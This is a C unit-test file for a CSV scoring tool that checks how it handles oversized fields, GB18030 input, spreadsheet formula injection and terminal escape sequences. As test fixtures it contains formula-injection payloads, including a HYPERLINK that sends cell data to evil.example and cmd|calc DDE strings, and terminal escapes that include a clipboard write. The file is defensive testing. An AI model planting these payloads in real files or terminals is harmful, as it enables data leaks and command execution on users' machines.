/* test_hostile.c - hostile and foreign files that are too big to commit or
 * need more than "FILE:LINE: message" (tests/data/bad/EXPECT has the rest):
 * a 10 MB field, 100,000 columns, a million rows, a million nested
 * parentheses; GB18030 input; formula injection round trips; names and
 * notes with terminal control characters stored exactly and never printed
 * raw by `jixiao score`.
 */
#include "testutil.h"

#include <locale.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>

#include "csvio.h"
#include "draftio.h"
#include "forms.h"
#include "rule.h"

static struct form *form;

static int setup(void **state)
{
    (void)state;
    struct diags d = {0};
    form = form_load_standard(&d);
    diags_clear(&d);
    return form ? 0 : -1;
}

static int teardown(void **state)
{
    (void)state;
    form_free(form);
    return 0;
}

static char *bad_file(const char *name, size_t *len)
{
    char rel[512], p[4096];
    snprintf(rel, sizeof rel, "tests/data/bad/%s", name);
    char *s = slurp(srcpath(p, sizeof p, rel), len);
    if (!s)
        fail_msg("cannot read %s", rel);
    return s;
}

/* The committed valid draft (LF, no BOM) split at its first n lines. */
static void draft_head(struct strbuf *b, int lines)
{
    size_t len;
    char *s = bad_file("draft-lf-nobom.csv", &len);
    const char *p = s;
    for (int i = 0; i < lines && *p; i++) {
        const char *nl = strchr(p, '\n');
        p = nl ? nl + 1 : p + strlen(p);
    }
    strbuf_put(b, s, (size_t)(p - s));
    free(s);
}

/* Load buf as a draft; returns the joined diagnostics (caller frees) and
 * whether it loaded in *loaded. */
static char *load_draft(const struct strbuf *b, bool *loaded, pts_t *total)
{
    struct diags d = {0};
    struct draft *dr = draftio_load_buffer("big.csv", b->p, b->n, form, &d);
    *loaded = dr != NULL;
    if (dr && total)
        *total = draft_total(dr);
    draft_free(dr);
    char *m = diags_join(&d);
    diags_clear(&d);
    return m;
}

static void expect_msg(const char *msgs, const char *want)
{
    if (!strstr(msgs, want))
        fail_msg("expected \"%s\" in\n%.2000s", want, msgs);
}

static void test_ten_mb_field(void **state)
{
    (void)state;
    struct strbuf b = {0};
    draft_head(&b, 10);   /* header, meta rows, 1 and 1.1 */
    strbuf_puts(&b, "1.1.1,3,预算编制合理性,5,5,\"");
    size_t big = 10u << 20;
    char *note = malloc(big);
    assert_non_null(note);
    memset(note, 'x', big);
    for (size_t i = 100; i < big; i += 100)
        note[i] = '\n';   /* many lines inside one quoted field */
    strbuf_put(&b, note, big);
    strbuf_puts(&b, "\",,,,,,,,\n");
    assert_false(b.oom);
    bool loaded;
    char *m = load_draft(&b, &loaded, NULL);
    assert_false(loaded);
    expect_msg(m, "big.csv:11: a field is longer than");
    free(m);
    /* the same as a form's description */
    struct diags d = {0};
    struct strbuf fb = {0};
    strbuf_puts(&fb, "id,level,name,points,description\n#name,,大,,\n1,1,一,10,\"");
    strbuf_put(&fb, note, big);
    strbuf_puts(&fb, "\"\n");
    struct form *f = form_load_buffer("big-form.csv", fb.p, fb.n, &d);
    assert_null(f);
    m = diags_join(&d);
    expect_msg(m, "big-form.csv:3: a field is longer than");
    free(m);
    diags_clear(&d);
    strbuf_free(&fb);
    free(note);
    strbuf_free(&b);
}

static void test_hundred_thousand_columns(void **state)
{
    (void)state;
    struct strbuf b = {0};
    strbuf_puts(&b, "id,level,indicator,points,score");
    for (int i = 0; i < 100000; i++)
        strbuf_puts(&b, ",c");
    strbuf_puts(&b, "\n");
    bool loaded;
    char *m = load_draft(&b, &loaded, NULL);
    assert_false(loaded);
    expect_msg(m, "big.csv:1: too many columns");
    free(m);
    /* and in a data row of a valid draft */
    b.n = 0;
    draft_head(&b, 10);
    strbuf_puts(&b, "1.1.1");
    for (int i = 0; i < 100000; i++)
        strbuf_puts(&b, ",5");
    strbuf_puts(&b, "\n");
    m = load_draft(&b, &loaded, NULL);
    assert_false(loaded);
    expect_msg(m, "big.csv:11: too many columns");
    free(m);
    strbuf_free(&b);
}

static void test_million_rows(void **state)
{
    (void)state;
    /* a complete draft followed by a million empty records */
    struct strbuf b = {0};
    draft_head(&b, 1000);
    for (int i = 0; i < 1000000; i++)
        strbuf_puts(&b, ",,,,,,,,,,,,,\r\n");
    bool loaded;
    pts_t total = 0;
    char *m = load_draft(&b, &loaded, &total);
    if (!loaded)
        fail_msg("a million empty rows: %.2000s", m);
    assert_int_equal(total, 9376);
    free(m);
    /* a form with a million rows, each an orphan: every one reported, no crash */
    b.n = 0;
    strbuf_puts(&b, "id,level,name,points\n#name,,百万行,\n");
    for (int i = 0; i < 1000000; i++) {
        char row[64];
        snprintf(row, sizeof row, "9.%d,2,行,1\n", i + 1);
        strbuf_puts(&b, row);
    }
    struct diags d = {0};
    struct form *f = form_load_buffer("rows.csv", b.p, b.n, &d);
    assert_null(f);
    assert_true(d.errors > 0);
    char first[256];
    assert_non_null(strstr(diag_format(&d.v[0], first, sizeof first), "rows.csv:3: "));
    diags_clear(&d);
    strbuf_free(&b);
}

static void test_deep_nesting(void **state)
{
    (void)state;
    size_t n = 1000000;
    char *s = malloc(2 * n + 2);
    assert_non_null(s);
    memset(s, '(', n);
    s[n] = '1';
    memset(s + n + 1, ')', n);
    s[2 * n + 1] = '\0';
    char why[256];
    struct expr *e = expr_parse(s, NULL, 0, why, sizeof why);
    assert_null(e);
    assert_true(why[0] != '\0');
    memset(s, '-', n);   /* a million unary minuses */
    s[n] = '1';
    s[n + 1] = '\0';
    assert_null(expr_parse(s, NULL, 0, why, sizeof why));
    for (size_t i = 0; i + 4 <= n; i += 4)   /* min(min(min(... */
        memcpy(s + i, "min(", 4);
    s[n] = '\0';
    assert_null(expr_parse(s, NULL, 0, why, sizeof why));
    free(s);
}

static void test_gb18030(void **state)
{
    (void)state;
    char p1[4096], p2[4096];
    srcpath(p1, sizeof p1, "tests/data/bad/draft-gb18030.csv");
    srcpath(p2, sizeof p2, "tests/data/bad/draft-lf-nobom.csv");
    struct diags d = {0};
    struct draft_header h;
    /* peek then load, as jixiao does: the notice is given once */
    assert_int_equal(draftio_peek(p1, &h, &d), 0);
    assert_string_equal(h.form_name, form->name);
    struct draft *gb = draftio_load(p1, form, &d);
    assert_non_null(gb);
    assert_int_equal(d.errors, 0);
    assert_int_equal(d.n, 1);
    assert_int_equal(d.v[0].level, DIAG_WARNING);
    assert_non_null(strstr(d.v[0].msg, "GB18030"));
    diags_clear(&d);
    struct draft *u8 = draftio_load(p2, form, &d);
    assert_non_null(u8);
    assert_int_equal(d.n, 0);
    char *a, *b;
    size_t al, bl;
    assert_int_equal(draftio_write_buffer(gb, true, &a, &al), 0);
    assert_int_equal(draftio_write_buffer(u8, true, &b, &bl), 0);
    assert_int_equal(al, bl);
    assert_memory_equal(a, b, al);   /* saved as UTF-8, identical */
    free(a);
    free(b);
    draft_free(gb);
    draft_free(u8);

    size_t len;
    char *raw = bad_file("draft-gb18030.csv", &len);
    size_t outlen;
    /* --encoding utf-8 refuses it with the line */
    assert_null(csvio_to_utf8("gb.csv", raw, len, CSVIO_ENC_UTF8, &outlen, &d));
    assert_int_equal(d.errors, 1);
    char line[256];
    assert_non_null(strstr(diag_format(&d.v[0], line, sizeof line), "gb.csv:3: invalid UTF-8"));
    diags_clear(&d);
    /* --encoding gb18030 decodes without a notice */
    char *out = csvio_to_utf8("gb.csv", raw, len, CSVIO_ENC_GB18030, &outlen, &d);
    assert_non_null(out);
    assert_int_equal(d.n, 0);
    assert_non_null(strstr(out, "部门整体支出绩效评价自评指标评分表"));
    free(out);
    free(raw);
    /* Latin-1 is not GB18030: an error, never a silent guess */
    raw = bad_file("draft-invalid-utf8-latin1.csv", &len);
    assert_null(csvio_to_utf8("l1.csv", raw, len, CSVIO_ENC_AUTO, &outlen, &d));
    assert_int_equal(d.n, 0);   /* the reader will report it with its line */
    assert_null(csvio_to_utf8("l1.csv", raw, len, CSVIO_ENC_GB18030, &outlen, &d));
    assert_int_equal(d.errors, 1);
    diags_clear(&d);
    free(raw);
    /* UTF-8 with a BOM is never re-read as GB18030, even when invalid */
    static const char bom_bad[] = "\xEF\xBB\xBFid,score\n\xC4\xE3,1\n";
    assert_null(csvio_to_utf8("b.csv", bom_bad, sizeof bom_bad - 1, CSVIO_ENC_AUTO, &outlen, &d));
    assert_int_equal(d.n, 0);
    assert_int_equal(csvio_encoding_parse("GBK"), CSVIO_ENC_GB18030);
    assert_int_equal(csvio_encoding_parse("utf-8"), CSVIO_ENC_UTF8);
    assert_int_equal(csvio_encoding_parse("big5"), -1);
}

/* Each field of a CSV buffer, to check what a spreadsheet would see. */
struct fieldscan {
    int risky;        /* text fields a spreadsheet would run as a formula */
    char bad[256];
};

static int scan_record(void *ctx, long line, char **fields, size_t n)
{
    struct fieldscan *s = ctx;
    for (size_t i = 0; i < n; i++) {
        const char *f = fields[i];
        if (!strchr("=+-@\t\r", f[0]) || !f[0])
            continue;
        char *end;
        strtod(f, &end);
        if (*end == '\0' && f[0] != '=' && f[0] != '@' && f[0] != '\t' && f[0] != '\r')
            continue;   /* a plain number such as -1 */
        if (!s->risky)
            snprintf(s->bad, sizeof s->bad, "line %ld: \"%.60s\"", line, f);
        s->risky++;
    }
    return 0;
}

static void test_formula_injection(void **state)
{
    (void)state;
    char p[4096];
    struct diags d = {0};
    struct draft *dr =
        draftio_load(srcpath(p, sizeof p, "tests/data/bad/draft-formula-injection.csv"), form, &d);
    assert_non_null(dr);
    static const struct { const char *id, *note; } want[] = {
        {"1.1.1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"},
        {"1.1.2", "+1+cmd|' /C calc'!A0"},
        {"1.2.1", "-2+3"},
        {"2.1.3", "@SUM(1+1)*cmd|' /C calc'!A0"},
        {"2.2.1", "\t=1+1"},
        {"2.2.2", "=already neutralised"},   /* the file's apostrophe is the guard */
    };
    for (size_t i = 0; i < sizeof want / sizeof want[0]; i++) {
        int k = draft_find(dr, want[i].id);
        assert_true(k >= 0);
        assert_string_equal(draft_node(dr, k)->note, want[i].note);
    }
    char *buf;
    size_t len;
    assert_int_equal(draftio_write_buffer(dr, true, &buf, &len), 0);
    struct fieldscan s = {0};
    assert_int_equal(csvio_read_buffer("out.csv", buf, len, scan_record, &s, &d), 0);
    if (s.risky)
        fail_msg("%d cells would run as formulas, first %s", s.risky, s.bad);
    /* and back: restored exactly */
    struct draft *back = draftio_load_buffer("out.csv", buf, len, form, &d);
    assert_non_null(back);
    for (size_t i = 0; i < sizeof want / sizeof want[0]; i++)
        assert_string_equal(draft_node(back, draft_find(back, want[i].id))->note, want[i].note);
    char *buf2;
    size_t len2;
    assert_int_equal(draftio_write_buffer(back, true, &buf2, &len2), 0);
    assert_int_equal(len, len2);
    assert_memory_equal(buf, buf2, len);
    free(buf);
    free(buf2);
    draft_free(back);
    draft_free(dr);
    diags_clear(&d);
}

/* Bytes a terminal would act on: ESC, other C0 but TAB and LF, DEL, C1
 * (UTF-8 C2 80..9F), bidi embeddings/overrides/isolates. */
static const char *raw_control(const char *s, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        unsigned char c = (unsigned char)s[i];
        if ((c < 0x20 && c != '\t' && c != '\n') || c == 0x7F)
            return s + i;
        if (c == 0xC2 && i + 1 < n && (unsigned char)s[i + 1] >= 0x80 &&
            (unsigned char)s[i + 1] <= 0x9F)
            return s + i;
        if (c == 0xE2 && i + 2 < n && (unsigned char)s[i + 1] == 0x80 &&
            (unsigned char)s[i + 2] >= 0xAA && (unsigned char)s[i + 2] <= 0xAE)
            return s + i;
        if (c == 0xE2 && i + 2 < n && (unsigned char)s[i + 1] == 0x81 &&
            (unsigned char)s[i + 2] >= 0xA6 && (unsigned char)s[i + 2] <= 0xA9)
            return s + i;
    }
    return NULL;
}

static void test_terminal_control_stored(void **state)
{
    (void)state;
    char p[4096];
    struct diags d = {0};
    struct draft *dr =
        draftio_load(srcpath(p, sizeof p, "tests/data/bad/draft-terminal-custom.csv"), form, &d);
    assert_non_null(dr);
    /* stored exactly as in the file */
    assert_string_equal(draft_meta(dr, META_UNIT),
                        "\x1b]0;owned\a\x1b[2J\x1b[31m红色单位\x1b[0m\u202e\xC2\x85");
    int k = draft_find(dr, "3.3.2");
    assert_true(k >= 0);
    assert_string_equal(draft_node(dr, k)->fn->name, "\x1b[5m闪烁\x1b[0m指标\u202e");
    assert_string_equal(draft_node(dr, k)->note, "\x1b]52;c;ZWNobyBvd25lZA==\a复制");
    char *a, *b;
    size_t al, bl;
    assert_int_equal(draftio_write_buffer(dr, true, &a, &al), 0);
    struct draft *back = draftio_load_buffer("again.csv", a, al, form, &d);
    assert_non_null(back);
    assert_int_equal(draftio_write_buffer(back, true, &b, &bl), 0);
    assert_int_equal(al, bl);
    assert_memory_equal(a, b, al);
    free(a);
    free(b);
    draft_free(back);
    draft_free(dr);
    diags_clear(&d);
}

/* `jixiao score` and `jixiao check` print nothing a terminal would act on. */
static void test_terminal_control_printed(void **state)
{
    (void)state;
    const char *bin = getenv("JIXIAO_BIN");
    if (!bin)
        skip_because("JIXIAO_BIN is not set (run the suite through meson test)");
    static const char *files[] = {"draft-terminal-custom.csv", "draft-terminal-control.csv"};
    static const char *cmds[] = {"score", "check"};
    for (size_t i = 0; i < 2; i++) {
        for (size_t c = 0; c < 2; c++) {
            char rel[256], p[4096], cmd[8192];
            snprintf(rel, sizeof rel, "tests/data/bad/%s", files[i]);
            snprintf(cmd, sizeof cmd, "'%s' %s '%s' 2>&1", bin, cmds[c],
                     srcpath(p, sizeof p, rel));
            FILE *f = popen(cmd, "r");
            assert_non_null(f);
            char out[65536];
            size_t n = fread(out, 1, sizeof out, f);
            int st = pclose(f);
            assert_true(WIFEXITED(st));
            const char *bad = raw_control(out, n);
            if (bad) {
                const char *ls = bad;
                while (ls > out && ls[-1] != '\n')
                    ls--;
                fail_msg("jixiao %s %s printed a raw control character (byte %zu): %.80s",
                         cmds[c], files[i], (size_t)(bad - out), ls);
            }
        }
    }
}

int main(void)
{
    setlocale(LC_ALL, "C.UTF-8");
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_ten_mb_field),
        cmocka_unit_test(test_hundred_thousand_columns),
        cmocka_unit_test(test_million_rows),
        cmocka_unit_test(test_deep_nesting),
        cmocka_unit_test(test_gb18030),
        cmocka_unit_test(test_formula_injection),
        cmocka_unit_test(test_terminal_control_stored),
        cmocka_unit_test(test_terminal_control_printed),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
